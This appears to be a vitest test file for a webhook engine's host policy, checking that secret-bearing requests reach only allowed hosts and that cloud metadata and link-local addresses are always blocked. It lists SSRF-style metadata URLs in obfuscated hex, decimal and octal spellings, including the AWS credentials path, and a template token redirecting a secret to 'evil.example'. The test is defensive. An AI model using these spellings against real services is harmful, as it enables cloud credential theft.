/**
 * The host policy through the engine (SPEC section 5, `allowed-hosts`): a secret goes only to an allowed host,
 * link-local and cloud metadata addresses are never called, and a hostname that *resolves* to one is refused at
 * connect time by the HTTP adapter's guarded lookup (given a stand-in resolver here, so no DNS is involved).
 *
 * Requests that must be refused never leave the process: the engine is given a transport that forwards only
 * requests for 127.0.0.1 and names resolved by the stand-in resolver, and records anything else it is handed. If
 * the policy broke, the test fails on that record instead of calling a metadata address.
 */
import type { LookupAddress } from 'node:dns';
import { performance } from 'node:perf_hooks';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { stringify } from '../support/yaml-text.js';

import { createHttpClient } from '../../src/http/http-client.js';
import type { ResolveAll } from '../../src/http/guarded-lookup.js';
import type { RunReport } from '../../src/judging/check-result.js';
import type { HttpClient, RunSettings } from '../../src/engine/ports.js';
import { runContracts } from '../../src/engine/run-contracts.js';
import { findCheck, runEngine } from '../support/run-engine.js';
import { makeContractSource } from '../support/make-contract-source.js';
import { startStagingServer } from '../support/staging-server.js';
import type { StagingServer } from '../support/staging-server.js';

const API_KEY = 'k-guard-5e1f09';

/** The stand-in DNS: every other name fails as not found. */
const ZONE: Readonly<Record<string, readonly string[]>> = {
  'staging-alias.test': ['127.0.0.1'],
  'metadata-probe.test': ['169.254.169.254'],
  'v6-link-local.test': ['fe80::1'],
  'mapped-metadata.test': ['::ffff:169.254.169.254'],
  'mixed.test': ['127.0.0.1', '169.254.10.1'],
};

const resolveAll: ResolveAll = (hostname, _options, callback) => {
  resolved.push(hostname);
  const addresses = ZONE[hostname.toLowerCase()];
  if (addresses === undefined) {
    const error: NodeJS.ErrnoException = new Error(`getaddrinfo ENOTFOUND ${hostname}`);
    error.code = 'ENOTFOUND';
    callback(error, []);
    return;
  }
  callback(
    null,
    addresses.map((address): LookupAddress => ({ address, family: address.includes(':') ? 6 : 4 })),
  );
};

let server: StagingServer;
let realClient: HttpClient;
/** Hostnames the stand-in resolver was asked for. */
let resolved: string[] = [];
/** URLs the engine tried to send that are neither 127.0.0.1 nor in the stand-in zone: must stay empty. */
let escaped: string[] = [];

/** Forwards to the real adapter only what can only reach 127.0.0.1 (directly, or through the stand-in zone). */
const guardedTransport: HttpClient = {
  send: (request, options) => {
    const { hostname } = new URL(request.url);
    if (hostname === '127.0.0.1' || Object.hasOwn(ZONE, hostname)) return realClient.send(request, options);
    escaped.push(request.url);
    return Promise.resolve({
      kind: 'network',
      code: 'TEST_REFUSED',
      message: 'not sent',
      latencyMs: 0,
      attempts: 1,
    });
  },
  close: () => Promise.resolve(),
};

beforeAll(async () => {
  server = await startStagingServer();
  realClient = createHttpClient({ resolveAll });
});

afterAll(async () => {
  await realClient.close();
  await server.close();
});

beforeEach(() => {
  server.resetStats();
  resolved = [];
  escaped = [];
});

type WebhookSpec = Record<string, unknown>;

function hook(name: string, url: string, overrides: WebhookSpec = {}): WebhookSpec {
  return {
    name,
    url,
    method: 'POST',
    template: '{"a": 1}',
    encoding: 'json',
    responseType: 'json',
    ...overrides,
  };
}

/** A webhook whose request carries the `${API_KEY}` secret in a header. */
function secretHook(name: string, url: string): WebhookSpec {
  return hook(name, url, { headers: { 'X-Api-Key': '${API_KEY}' } });
}

async function run(
  webhooks: readonly WebhookSpec[],
  overrides: Partial<RunSettings> = {},
): Promise<RunReport> {
  return runEngine([{ file: 'hosts.yml', text: stringify({ version: 1, webhooks }) }], {
    http: guardedTransport,
    settings: { concurrency: 2, env: { API_KEY }, ...overrides },
  });
}

function expectBlocked(report: RunReport, name: string, message: RegExp): void {
  const check = findCheck(report, name);
  expect(check.passed, name).toBe(false);
  expect(
    check.failures.map((failure) => failure.kind),
    name,
  ).toEqual(['blocked']);
  expect(check.failures[0]?.message, name).toMatch(message);
  expect(check.status, name).toBeNull();
}

describe('allowed-hosts: a secret goes only to an allowed host', () => {
  it('blocks a secret-bearing webhook to a host not in allowedHosts; the server receives nothing', async () => {
    const report = await run([secretHook('Secret', `${server.url}/json`)], {
      allowedHosts: ['staging.example.com'],
    });
    expectBlocked(
      report,
      'Secret',
      /carries a secret and 127\.0\.0\.1:\d+ is not in allowed-hosts \(staging\.example\.com\)/,
    );
    expect(server.connections()).toBe(0);
    expect(escaped).toEqual([]);
  });

  it('sends the same webhook when its host and port are allowed, and a secret-free one to any host', async () => {
    const report = await run(
      [secretHook('Secret', `${server.url}/json`), hook('Plain', `${server.url}/json`)],
      { allowedHosts: [`127.0.0.1:${server.port}`] },
    );
    expect(findCheck(report, 'Secret').passed).toBe(true);
    expect(findCheck(report, 'Plain').passed).toBe(true);
    expect(server.hits('/json')).toBe(2);
    // The port is part of the rule: the same host on another port is not allowed.
    const otherPort = await run([secretHook('Secret', `${server.url}/json`)], {
      allowedHosts: [`127.0.0.1:${server.port === 1 ? 2 : server.port - 1}`],
    });
    expectBlocked(otherPort, 'Secret', /not in allowed-hosts/);
  });

  it('judges the rendered URL: a token cannot move a secret to another host', async () => {
    const text = stringify({
      version: 1,
      samples: { mallory: { lead: { Host: 'evil.example' } } },
      webhooks: [secretHook('Token host', 'http://{{lead.Host}}/collect')],
    });
    const { report } = await runContracts(
      {
        contracts: ['hosts.yml'],
        concurrency: 1,
        maxBodyBytes: 1024,
        allowedHosts: ['127.0.0.1'],
        retries: 0,
        env: { API_KEY },
      },
      {
        http: guardedTransport,
        files: makeContractSource([{ file: 'hosts.yml', text }]),
        log: { info: () => undefined, warning: () => undefined, debug: () => undefined },
        now: () => performance.now(),
      },
    );
    expectBlocked(report, 'Token host', /evil\.example is not in allowed-hosts/);
    expect(escaped).toEqual([]);
  });
});

describe('link-local and cloud metadata addresses are never called', () => {
  const metadataUrls = [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://169.254.169.254:80/',
    'http://169.254.1.1/',
    'http://[fe80::1]/',
    'http://[::ffff:169.254.169.254]/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    // Other spellings of 169.254.169.254 that URL parsing turns into the dotted form.
    'http://0xA9FEA9FE/',
    'http://2852039166/',
    'http://0251.0376.0251.0376/',
    'http://169.254.169.254./',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://METADATA/',
    'http://metadata./',
  ];

  it('blocks each spelling, with allowedHosts "any" and no secret, and sends nothing', async () => {
    const report = await run(
      [
        ...metadataUrls.map((url, index) => hook(`Metadata ${index}`, url)),
        hook('Control', `${server.url}/json`),
      ],
      { allowedHosts: 'any' },
    );
    for (const index of metadataUrls.keys()) {
      expectBlocked(
        report,
        `Metadata ${index}`,
        /link-local or cloud metadata address, which is never called/,
      );
    }
    expect(findCheck(report, 'Control').passed).toBe(true);
    expect(escaped).toEqual([]);
  });

  it('blocks them even when allowedHosts lists them', async () => {
    const report = await run([secretHook('Listed', 'http://169.254.169.254/')], {
      allowedHosts: ['169.254.169.254', 'metadata.google.internal'],
    });
    expectBlocked(report, 'Listed', /link-local or cloud metadata/);
    expect(escaped).toEqual([]);
  });
});

describe('a hostname that resolves to a link-local address', () => {
  it('is refused before connecting, as blocked, naming the host as written; the run goes on', async () => {
    const report = await run(
      [
        hook('Probe', 'http://Metadata-Probe.test/latest/meta-data/'),
        hook('V6', 'http://v6-link-local.test/'),
        hook('Mapped', 'http://mapped-metadata.test/'),
        hook('Mixed', 'http://mixed.test/'),
        hook('Alias', `http://staging-alias.test:${server.port}/json`),
      ],
      { concurrency: 1 },
    );
    for (const [name, address] of [
      ['Probe', '169\\.254\\.169\\.254'],
      ['V6', 'fe80::1'],
      ['Mapped', '::ffff:169\\.254\\.169\\.254'],
      ['Mixed', '169\\.254\\.10\\.1'],
    ] as const) {
      const check = findCheck(report, name);
      expect(
        check.failures.map((failure) => failure.kind),
        name,
      ).toEqual(['blocked']);
      expect(check.errorType, name).toBeNull();
      expect(check.failures[0]?.message, name).toMatch(
        new RegExp(`resolves to ${address}, a link-local or cloud metadata address, which is never called`),
      );
    }
    // The URL's spelling, not the parser's lower-cased one: a secret in a hostname is redacted in this form.
    const probe = findCheck(report, 'Probe').failures[0]?.message ?? '';
    expect(probe).toMatch(/\bMetadata-Probe\.test resolves to/);
    expect(probe).not.toContain('metadata-probe.test');
    // The stand-in resolver is what the adapter used: the alias reached the staging server through it.
    expect(findCheck(report, 'Alias').passed).toBe(true);
    expect(server.hits('/json')).toBe(1);
    expect(resolved).toEqual(expect.arrayContaining(['metadata-probe.test', 'staging-alias.test']));
  });

  it('is refused even for a secret-bearing webhook whose host is in allowedHosts', async () => {
    const report = await run([secretHook('Allowed probe', 'http://metadata-probe.test/')], {
      allowedHosts: ['metadata-probe.test'],
    });
    const check = findCheck(report, 'Allowed probe');
    expect(check.failures.map((failure) => failure.kind)).toEqual(['blocked']);
    expect(check.failures[0]?.message).toMatch(/resolves to 169\.254\.169\.254/);
    expect(server.connections()).toBe(0);
  });
});
